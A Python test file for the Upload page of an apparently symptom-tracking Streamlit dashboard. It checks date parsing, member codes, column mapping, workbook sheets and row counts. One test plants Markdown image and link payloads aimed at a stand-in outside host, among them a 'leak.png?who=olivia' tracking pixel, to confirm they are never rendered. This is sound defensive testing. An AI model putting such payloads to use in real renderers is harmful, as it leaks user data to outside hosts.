"""The Upload page's per-file cards through AppTest: nothing from a file is rendered as Markdown, each
file has its own options, warnings are on the card, the column mapping is always within reach and
the counts say what was and was not used."""

from __future__ import annotations

import io

import openpyxl
import streamlit as st
from streamlit.testing.v1 import AppTest

from oms_dash.ui.pages.upload import file_key
from tests.conftest import UPLOAD, map_columns, shown, upload

OUTSIDE = "203.0.113.7"


def _rendered_markdown(at: AppTest) -> list[str]:
    """The text of every rendered element and block (labels, help, expander titles...), tables aside:
    a table shows its cells as text, everything else is Markdown."""
    texts = []

    def walk(node) -> None:
        if getattr(node, "type", None) == "dataframe":
            return
        proto = getattr(node, "proto", None)
        if proto is not None:
            texts.append(str(proto))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return texts


def _card_subheaders(at: AppTest) -> list[str]:
    return [s.value for s in at.subheader if s.value != "Templates"]


def test_markdown_in_a_heading_cell_or_name_is_shown_as_typed_never_fetched():
    heading = f"![track](http://{OUTSIDE}/leak.png?who=olivia) Email"
    data = (f'member,date,symptom,severity,"{heading}"\n'
            f"Q1,2026-01-05,jerks,2,olivia@example.org\n"
            f"Q1,2026-01-06,**[click](http://{OUTSIDE}/x)** wobble,1,olivia@example.org\n"
            f"Q2,2026-01-06,jerks,![v](http://{OUTSIDE}/v.png),sam@example.org\n").encode()
    at = upload((f"![f](http://{OUTSIDE}/f.png) diary.csv", data))
    texts = _rendered_markdown(at)
    leaks = [t for t in texts if "![" in t or OUTSIDE in t]
    assert not leaks, leaks
    # Our own links (symptom -> Reference, the demo banner's -> Upload logs) are the only links left.
    assert all(t.split("](", 1)[1].startswith(("./reference?entry=", "./upload)"))
               for t in texts if "](" in t), [t for t in texts if "](" in t]
    # The removed column is still named, as typed.
    removed = [e.value for e in at.error if "Removed before anything was shown" in e.value]
    assert removed and "track" in removed[0] and "Email" in removed[0]


def test_each_file_is_read_with_its_own_date_order():
    ambiguous = b"member,date,symptom,severity\nF01,03/04/2026,jerks,2\nF01,04/05/2026,jerks,1\n"
    european = b"member,date,symptom,severity\nF02,14/03/2026,jerks,2\nF02,02/03/2026,jerks,1\n"
    at = upload(("us.csv", ambiguous), ("eu.csv", european))
    # The guess is on the card, not hidden, and the card does not show a green check.
    ambiguity = [w.value for w in at.warning if "day-first or month-first" in shown(w.value)]
    assert ambiguity
    us_card, eu_card = _card_subheaders(at)
    assert "check_circle" not in us_card and "warning" in us_card
    assert "check_circle" in eu_card
    spans = " ".join(m.value for m in at.markdown)
    assert "03 Apr 2026 to 04 May 2026" in spans  # us.csv, read day-first for now
    assert "02 Mar 2026 to 14 Mar 2026" in spans  # eu.csv, day-first
    at.radio(key=f"opt_{file_key('us.csv', ambiguous)}_order").set_value("Month first (03/14/2026)").run()
    assert not at.exception
    assert not any("day-first or month-first" in shown(w.value) for w in at.warning)
    spans = " ".join(m.value for m in at.markdown)
    assert "04 Mar 2026 to 05 Apr 2026" in spans  # us.csv, now month-first
    assert "02 Mar 2026 to 14 Mar 2026" in spans  # eu.csv still day-first, still fully accepted
    assert [m.value for m in at.metric if m.label == "Accepted"] == ["2", "2"]


def test_two_single_person_exports_get_their_own_member_codes():
    export = (b"date,weekday,time of day,category,rating/amount,detail,notes\n"
              b"1st Sep 2026,Tue,am,Symptom,2,Jerking (Moderate),\n")
    at = upload(("export.csv", export), ("export (1).csv", export + b"2nd Sep 2026,Wed,am,Symptom,1,"
                                                                b"Jerking (Mild),\n"))
    guesses = [w.value for w in at.warning if "file name" in w.value]
    assert len(guesses) == 2  # on each card, next to the field that fixes it
    for name, data, code in (("export.csv", export, "F01"), ("export (1).csv", None, "F02")):
        data = data or export + b"2nd Sep 2026,Wed,am,Symptom,1,Jerking (Mild),\n"
        at.text_input(key=f"opt_{file_key(name, data)}_member").set_value(code).run()
    assert not at.exception
    assert not any("file name" in w.value for w in at.warning)
    assert any("Loaded 2 member(s) from 2 usable file(s)" in s.value for s in at.success)
    # Another page and back: the two members are still there, nothing was read again.
    parsed = len(at.session_state["parsed_files"])
    at.switch_page("oms_dash/ui/page_scripts/privacy.py").run()
    at.switch_page(UPLOAD).run()
    assert any("Loaded 2 member(s)" in s.value for s in at.success)
    assert len(at.session_state["parsed_files"]) == parsed


def test_the_daily_rule_is_one_visible_choice_for_every_file():
    repeats = b"member,date,symptom,severity\nQ1,2026-01-05,jerks,1\nQ1,2026-01-05,jerks,3\n"
    at = upload(("a.csv", repeats))
    assert any("(daily maximum)" in shown(c.value) for c in at.caption)
    at.radio(key="upload_rule").set_value("the average of the day's readings (daily mean)").run()
    assert any("(daily mean)" in shown(c.value) for c in at.caption)
    assert not any("(daily maximum)" in shown(c.value) for c in at.caption)


def test_mismatched_weekly_totals_are_counted_on_the_card():
    header = "member,week starting,stance,gait,arm/hand,speech,mood/behaviour,eye movements,total\n"
    data = (header + "F01,2026-01-05,1,1,1,1,1,1,6\nF01,2026-01-12,1,1,1,1,1,1,9\n"
            "F01,2026-01-19,2,1,1,1,1,1,5\n").encode()
    at = upload(("mp.csv", data))
    assert any("2 weekly total(s) do not match" in shown(w.value) for w in at.warning)
    assert "warning" in _card_subheaders(at)[0]


def _members_line(at: AppTest) -> str:
    return next(shown(m.value) for m in at.markdown if "member(s)" in m.value)


def test_a_recognised_file_can_be_mapped_by_hand_too():
    data = (b"member,child code,date,symptom,severity\nX,Q1,2026-01-05,jerks,2\n"
            b"X,Q2,2026-01-06,jerks,1\n")
    at = upload(("both.csv", data))
    fk = file_key("both.csv", data)
    assert _members_line(at).startswith("1 member(s)")
    assert any(e.label == "Columns read wrongly? Map them yourself" for e in at.expander)
    map_columns(at, fk, member="child code", date="date", symptom="symptom", severity="severity")
    assert not at.exception
    assert _members_line(at).startswith("2 member(s)")
    at.button(key=f"map_{fk}_clear").click().run()
    assert not at.exception
    assert _members_line(at).startswith("1 member(s)")
    assert not any(b.key == f"map_{fk}_clear" for b in at.button)


def test_unread_symptom_like_columns_are_named_with_how_to_get_them_read():
    odd = b"Kid,Day logged,Wobble,Eyes jumping\nF01,2026-03-01,a lot,2\nF01,2026-03-02,a little,1\n"
    at = upload(("odd.csv", odd))
    fk = file_key("odd.csv", odd)
    map_columns(at, fk, member="Kid", date="Day logged")
    assert not at.exception
    assert [m.value for m in at.metric if m.label == "Accepted"] == ["2"]
    hint = [shown(c.value) for c in at.caption if "Not read" in c.value]
    assert hint and "'Wobble'" in hint[0] and "none / mild / moderate / severe" in hint[0]


def test_a_form_without_a_member_question_needs_a_member_column_or_code():
    form = (b"Timestamp,Eye movements (opsoclonus) 0-3,Jerks 0-3\n"
            b"3/14/2026 20:15:02,2,1\n3/15/2026 20:15:02,1,1\n")
    at = upload(("responses.csv", form))
    fk = file_key("responses.csv", form)
    submit = f"FormSubmitter:mapping_{fk}-Read this file again with these columns"
    at.selectbox(key=f"map_{fk}_date").set_value("Timestamp")
    at.button(key=submit).click().run()
    assert any("cannot tell whose rows these are" in e.value for e in at.error)
    assert not any(m.label == "Accepted" for m in at.metric if m.value != "0")  # still nothing read
    at.text_input(key=f"map_{fk}_code").set_value("F05")
    at.button(key=submit).click().run()
    assert not at.exception
    assert [m.value for m in at.metric if m.label == "Accepted"] == ["2"]
    assert not any("file name" in w.value for w in at.warning)


def test_counts_say_what_was_usable_and_what_was_not():
    wide = b"member,date,jerks,sleep\nQ1,2026-01-05,2,7\nQ1,2026-01-06,1,1\nQ1,2026-02-30,1,1\n\n"
    picture = b"\x89PNG\r\n\x1a\n" + bytes(200)
    at = upload(("wide.csv", wide), ("photo.csv", picture))
    assert any("from 1 usable file(s)" in s.value for s in at.success)
    assert any("1 file(s) could not be used: photo.csv" in shown(w.value) for w in at.warning)
    assert [m.value for m in at.metric if m.label == "Rejected"] == ["1"]
    lines = " ".join(shown(m.value) for m in at.markdown)
    assert "1 cell not used in rows that were kept" in lines
    assert any(e.label == "Messages (2): 1 row rejected · 1 cell not used in kept rows"
               for e in at.expander)


def test_skipped_rows_are_counted_in_words_that_read_naturally():
    blanks = b"member,date,jerks,sleep\nQ1,2026-01-05,2,1\nQ1,2026-01-06,,\nQ1,2026-01-07,,\n"
    at = upload(("blanks.csv", blanks))
    lines = " ".join(shown(m.value) for m in at.markdown)
    assert "Skipped by design: 2 rows with nothing recorded" in lines
    assert "2 row with" not in lines


def _months_workbook() -> bytes:
    book = openpyxl.Workbook()
    first = book.active
    first.title = "January"
    for row in (["member", "date", "symptom", "severity"], ["Q1", "2026-01-05", "jerks", 2]):
        first.append(row)
    second = book.create_sheet("February")
    for row in (["member", "date", "symptom", "severity"], ["Q1", "2026-02-05", "jerks", 2],
                ["Q2", "2026-02-06", "sleep", 1]):
        second.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_workbook_sheet_is_chosen_on_its_card():
    data = _months_workbook()
    at = upload(("months.xlsx", data), mime="application/octet-stream")
    assert [m.value for m in at.metric if m.label == "Accepted"] == ["1"]
    at.selectbox(key=f"opt_{file_key('months.xlsx', data)}_sheet").set_value("February").run()
    assert not at.exception
    assert [m.value for m in at.metric if m.label == "Accepted"] == ["2"]
    assert _members_line(at).startswith("2 member(s)")


def test_a_workbook_is_opened_once_per_read_the_page_takes_its_sheets_from_the_read(monkeypatch):
    opened = []
    real = openpyxl.load_workbook

    def counted(*args, **kwargs):
        opened.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", counted)
    data = _months_workbook()
    at = upload(("months.xlsx", data), mime="application/octet-stream")
    assert len(opened) == 1  # a big workbook is not unzipped a second time to list its sheets
    sheet = at.selectbox(key=f"opt_{file_key('months.xlsx', data)}_sheet")
    assert sheet.options == ["(the first sheet with a table)", "January", "February"]


def test_a_workbook_without_a_table_still_lists_its_sheets_to_choose_from():
    book = openpyxl.Workbook()
    book.active.title = "Notes"
    book.active.append(["just a title"])
    book.create_sheet("Readme").append(["nothing here either"])
    buffer = io.BytesIO()
    book.save(buffer)
    at = upload(("months.xlsx", buffer.getvalue()), mime="application/octet-stream")
    assert any("None of the sheets" in shown(e.value) for e in at.error)
    sheet = at.selectbox(key=f"opt_{file_key('months.xlsx', buffer.getvalue())}_sheet")
    assert sheet.options == ["(the first sheet with a table)", "Notes", "Readme"]


def test_a_read_shows_what_it_is_doing_as_it_goes(monkeypatch):
    said = []
    real_progress = st.progress

    class Recorded:
        def __init__(self, bar):
            self.bar = bar

        def progress(self, value, text=None):
            said.append(shown(text or ""))
            return self.bar.progress(value, text=text)

        def empty(self):
            return self.bar.empty()

    monkeypatch.setattr(st, "progress", lambda value, text=None: Recorded(real_progress(value, text=text)))
    rows = "".join(f"Q{i % 7},2026-01-{i % 28 + 1:02d},jerks,{i % 4}\n" for i in range(3000))
    upload(("big.csv", ("member,date,symptom,severity\n" + rows).encode()))
    assert said[0].startswith("Reading big.csv (")  # before the first stage ends
    assert any(s.startswith("Checking every row") for s in said)


def test_a_column_read_one_way_by_a_single_date_opens_its_options():
    # 13/4 can only be day-first, so the other dates were read day-first too: the card says so and
    # opens the options where month-first can be chosen.
    flipped = (b"member,date,symptom,severity\nF01,3/2/2026,jerks,2\nF01,3/9/2026,jerks,1\n"
               b"F01,4/6/2026,jerks,1\nF01,13/4/2026,jerks,0\n")
    at = upload(("flipped.csv", flipped))
    options = [e for e in at.expander if e.label == "Options for this file"]
    assert options and options[0].proto.expanded
    assert any("day-first" in shown(w.value) or "day first" in shown(w.value) for w in at.warning)


def test_a_big_group_of_files_is_never_read_again_when_moving_between_pages(monkeypatch):
    # One file per family, for a group of forty families: every page change must not re-read them.
    from oms_dash.ui import cache

    reads = []
    read_file = cache.read_file
    monkeypatch.setattr(cache, "read_file", lambda *a, **k: reads.append(a[0]) or read_file(*a, **k))
    files = [(f"family{i:02d}.csv", f"member,date,symptom,severity\nF{i:02d},2026-01-05,jerks,{i % 4}\n"
              .encode()) for i in range(40)]
    at = upload(*files)
    assert sorted(reads) == sorted(name for name, _ in files)
    assert any("Loaded 40 member(s) from 40 usable file(s)" in s.value for s in at.success)
    at.switch_page("oms_dash/ui/page_scripts/privacy.py").run()
    at.switch_page(UPLOAD).run()
    assert not at.exception
    assert len(reads) == 40  # each file was read once
